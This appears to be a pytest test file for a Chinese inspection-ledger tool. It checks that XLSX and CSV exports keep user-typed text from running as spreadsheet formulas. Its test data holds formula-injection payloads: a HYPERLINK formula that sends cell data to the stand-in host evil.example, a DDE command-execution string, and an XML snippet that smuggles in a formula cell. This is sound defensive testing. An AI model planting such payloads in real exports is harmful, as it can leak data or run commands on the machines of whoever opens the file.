"""Exports a spreadsheet program opens: text from anyone is shown, never run (issue #13).

A subject's name, its legal representative (the ledger's 责任人) and a review note
are typed by anyone; in the ledger and overview they must stay text.
"""

import csv
import os
import subprocess
import sys

import openpyxl
import pytest

from inspector import checklists, inspections, ledger_query, rectifications
from inspector.cli import main
from inspector.evidence import add_evidence
from inspector.ledger_query import LedgerFilter
from inspector.overview import COLUMN_KEYS, overview_stats, write_overview
from inspector.reports import ledger_rows, write_ledger
from inspector.spreadsheet_safe import (
    FORMULA_STARTS,
    XlsxFormats,
    csv_cell,
    xlsx_book,
    xlsx_cell,
)
from inspector.subjects import add_subject

from .helpers.stores import make_store
from .helpers.subjects import CODE_B, VALID_CODE

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "=cmd|' /C calc'!A0", "+1+1",
           "-2", "@SUM(1)", "＝１＋１", "#N/A"]
TRIGGERS = tuple(FORMULA_STARTS)


@pytest.fixture
def hostile_store(tmp_path, checklist_dir):
    """Two subjects whose name, legal representative and review note are formulas."""
    store = make_store(tmp_path / "hostile.db", "张伟", "inspector")
    mini = checklists.find("mini")
    for code, name, rep in [(VALID_CODE, HOSTILE[0], HOSTILE[2]),
                            (CODE_B, HOSTILE[1], HOSTILE[4])]:
        add_subject(store, name=name, code=code, sector="mini", legal_rep=rep)
        started = inspections.start(store, subject=code, checklist=mini,
                                    inspectors=["张伟", "李娜"])
        for item, value in [("m-01", "no"), ("m-03", "shop"), ("m-05", 6), ("m-06", ["sand"])]:
            inspections.record_answer(store, started, item, value)
        add_evidence(store, started, "m-07", b"\xff\xd8\xff photo", mime="image/jpeg")
        for item_id in inspections.complete(store, started):
            rectifications.review(store, item_id, accept=False, note=HOSTILE[3])
    yield store
    store.close()


def hostile_rows() -> list[dict]:
    """Ledger rows with every hostile text in every text column."""
    item = {"subject": "", "uscc": "", "sector": "mini", "inspected_at": "2026-03-02T02:00:00Z",
            "problem": "", "basis": "", "severity": "major", "requirement": "",
            "deadline": "2026-04-01", "responsible": "", "status": "open", "overdue": False,
            "reviewed_at": None, "review_status": "reopened", "review_note": "",
            "id": "x"}
    text_keys = ("subject", "uscc", "problem", "basis", "requirement", "responsible")
    return ledger_rows([{**item, **dict.fromkeys(text_keys, text), "review_note": text,
                         "overdue": n % 2 == 0} for n, text in enumerate(HOSTILE)])


def xlsx_cells(path) -> list:
    return [cell for row in openpyxl.load_workbook(path).active.iter_rows() for cell in row]


def csv_cells(path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


# --- the rule ------------------------------------------------------------------


@pytest.mark.parametrize("text", [*HOSTILE, "\tx", "\rx", "＋1", "－1", "＠x"])
def test_csv_cell_quotes_what_a_spreadsheet_would_run(text):
    if text == "#N/A":  # an error code, not a formula: harmless in a CSV
        assert csv_cell(text) == text
    else:
        assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["杭州讯达信息技术有限公司", "A=B", "a-b", 12, -3, 0.5, None])
def test_plain_text_and_numbers_pass_unchanged(value):
    assert csv_cell(value) == value
    assert xlsx_cell(None, value) == value  # a plain value, no cell made


@pytest.mark.parametrize("constant_memory", [True, False])
def test_text_written_like_rich_text_xml_stays_one_text_cell(tmp_path, constant_memory):
    # XlsxWriter writes a text from <r> to </r> unescaped, as rich text: this one added
    # a formula cell, and a cell of its own, to the sheet
    hostile = ('<r><t>x</t></r></is></c><c r="Z9"><f>1+1</f></c>'
               '<c r="Z10" t="inlineStr"><is><r><t>y</t></r>')
    path = tmp_path / "book.xlsx"
    with xlsx_book(path, constant_memory=constant_memory) as book:
        formats = XlsxFormats(book, bold={"bold": True})
        formats.put(sheet := book.add_worksheet(), 0, 0, hostile, "bold")
        formats.put(sheet, 1, 0, "<r>-1</r>")
    assert [(c.coordinate, c.value) for c in xlsx_cells(path) if c.value is not None] == [
        ("A1", hostile), ("A2", "<r>-1</r>")]


# --- ledger ----------------------------------------------------------------------


def test_ledger_xlsx_holds_hostile_text_as_readable_text(tmp_path):
    path = tmp_path / "ledger.xlsx"
    write_ledger(hostile_rows(), path, title="=1+1 台账")
    cells = xlsx_cells(path)
    assert [c.coordinate for c in cells if c.data_type in ("f", "e")] == []
    texts = {c.value for c in cells}
    assert set(HOSTILE) | {"=1+1 台账"} <= texts  # shown exactly as typed
    risky = [c for c in cells if isinstance(c.value, str) and c.value.startswith(TRIGGERS)]
    assert risky and all(c.quotePrefix for c in risky)  # still text when edited in Excel


def test_ledger_xlsx_numbers_and_dates_stay_typed(tmp_path):
    path = tmp_path / "ledger.xlsx"
    write_ledger(hostile_rows(), path)
    sheet = openpyxl.load_workbook(path).active
    assert [sheet.cell(row, 1).value for row in range(2, 2 + len(HOSTILE))] == list(
        range(1, 1 + len(HOSTILE)))
    assert sheet.cell(2, 1).data_type == "n" and sheet.cell(2, 5).is_date


def test_ledger_csv_has_no_cell_a_spreadsheet_would_run(tmp_path):
    path = tmp_path / "ledger.csv"
    write_ledger(hostile_rows(), path)
    header, *rows = csv_cells(path)
    assert [cell for row in rows for cell in row if cell.startswith(TRIGGERS)] == []
    assert {row[header.index("被检查单位")] for row in rows} == {
        text if text == "#N/A" else "'" + text for text in HOSTILE}
    assert [row[0] for row in rows] == [str(n) for n in range(1, 1 + len(HOSTILE))]


def test_ledger_from_the_command_line_runs_nothing(hostile_store, tmp_path, capsys):
    xlsx, table = tmp_path / "ledger.xlsx", tmp_path / "ledger.csv"
    for path in (xlsx, table):
        assert main(["--db", str(hostile_store.path), "ledger", "-o", str(path)]) == 0
    cells = xlsx_cells(xlsx)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert {HOSTILE[0], HOSTILE[1], HOSTILE[2], HOSTILE[4]} <= {c.value for c in cells}
    assert any(str(c.value).endswith("：-2") for c in cells)  # the review note, as text
    rows = csv_cells(table)
    assert len(rows) > 2
    assert [cell for row in rows for cell in row if cell.startswith(TRIGGERS)] == []


def test_control_characters_in_a_ledger_are_shown_not_refused(tmp_path):
    rows = hostile_rows()
    rows[0]["subject"] = "某公司\x1b[31m\x00红\x7f"
    rows[0]["review"] = "第一行\n第二行\t完"
    path = tmp_path / "ledger.xlsx"
    write_ledger(rows, path)  # openpyxl raised IllegalCharacterError
    texts = {c.value for c in xlsx_cells(path)}
    assert "某公司\\u001b[31m\\u0000红\\u007f" in texts
    assert "第一行\n第二行\t完" in texts  # line breaks and tabs are text an XLSX holds


# --- overview --------------------------------------------------------------------


def test_overview_exports_run_nothing(hostile_store, tmp_path):
    rows = overview_stats(hostile_store)
    rows[0].name = HOSTILE[0]  # a sector slug comes from whoever sent the record
    headers = ["-h", *(f"h{n}" for n in range(1, len(COLUMN_KEYS)))]
    write_overview(rows, headers, tmp_path / "o.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "o.xlsx").active
    assert [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"] == []
    assert sheet["A2"].value == HOSTILE[0] and sheet["A1"].value == "-h"
    assert sheet["B2"].data_type == "n" and sheet["D2"].value == rows[0].problems
    write_overview(rows, headers, tmp_path / "o.csv")
    lines = csv_cells(tmp_path / "o.csv")
    assert lines[1][0] == "'" + HOSTILE[0] and lines[1][3] == str(rows[0].problems)
    assert [cell for row in lines for cell in row if cell.startswith(TRIGGERS)] == []


def test_ledger_query_sees_the_hostile_subjects(hostile_store):
    """The fixture really puts the formulas where the ledger reads them."""
    items = ledger_query.items(hostile_store, LedgerFilter())
    assert {i["subject"] for i in items} == {HOSTILE[0], HOSTILE[1]}
    assert {i["responsible"] for i in items} == {HOSTILE[2], HOSTILE[4]}


# --- a failed write ----------------------------------------------------------------

FULL_DISK = """
import hashlib, resource, signal, sys
from inspector.cli import INVALID
from inspector.errors import InspectorError
from inspector.reports import ledger_rows, write_ledger
item = {"subject": "某公司", "uscc": "x", "sector": "mini", "severity": "major",
        "inspected_at": "2026-03-02T02:00:00Z", "basis": "b", "requirement": "r",
        "deadline": "2026-04-01", "responsible": "p", "status": "open", "overdue": False,
        "reviewed_at": None, "review_status": None, "review_note": None, "id": "x"}
rows = ledger_rows([{**item, "problem": hashlib.sha256(str(n).encode()).hexdigest()}
                    for n in range(2000)])
# no file may grow past 20 kB, as on a full disk: the write fails (EFBIG), no signal
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
resource.setrlimit(resource.RLIMIT_FSIZE, (20000, resource.RLIM_INFINITY))
try:
    write_ledger(rows, sys.argv[1])
except InspectorError as exc:  # as the command line reports it
    print(exc, file=sys.stderr)
    sys.exit(INVALID)
"""


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_a_full_disk_gives_one_line_and_keeps_the_previous_ledger(tmp_path, suffix):
    path = tmp_path / f"台账{suffix}"
    path.write_bytes(b"previous ledger")
    done = subprocess.run([sys.executable, "-c", FULL_DISK, str(path)], capture_output=True,
                          text=True, env={**os.environ, "TMPDIR": str(tmp_path)})
    assert done.returncode == 1
    assert done.stderr.splitlines() == [f"{path}: cannot write: File too large"]
    assert path.read_bytes() == b"previous ledger"
    assert [p.name for p in tmp_path.iterdir()] == [path.name]  # no part, no temporary rows
